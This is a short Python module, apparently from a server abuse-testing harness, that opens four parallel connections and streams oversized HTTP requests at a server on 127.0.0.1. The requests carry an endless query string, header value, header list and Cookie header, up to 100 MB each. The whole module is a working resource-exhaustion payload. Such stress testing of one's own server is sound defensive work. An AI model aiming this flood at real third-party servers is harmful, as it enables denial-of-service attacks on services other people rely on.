"""Requests whose address, headers or cookies never end."""

from __future__ import annotations

import itertools

from abuse.hostile import Hostile

BEGINNINGS = itertools.cycle(
    [
        (b"GET /?", b"x" * 65536),
        (b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Long: ", b"x" * 65536),
        (b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n", b"X-Many: x\r\n" * 6000),
        (b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: ", b"a=b; " * 13000),
    ]
)
MOST = 100_000_000


async def attack(hostile: Hostile) -> None:
    """Four kinds at once, a hundred megabytes each."""

    async def pour() -> None:
        beginning, more = next(BEGINNINGS)
        async with hostile.plain() as line:
            await line.send(beginning)
            for _ in range(0, MOST, len(more)):
                if not hostile.goes_on or not await line.send(more):
                    break
                hostile.count("kB sent", len(more) // 1000)
        hostile.count("heads")

    await hostile.together(pour, 4)
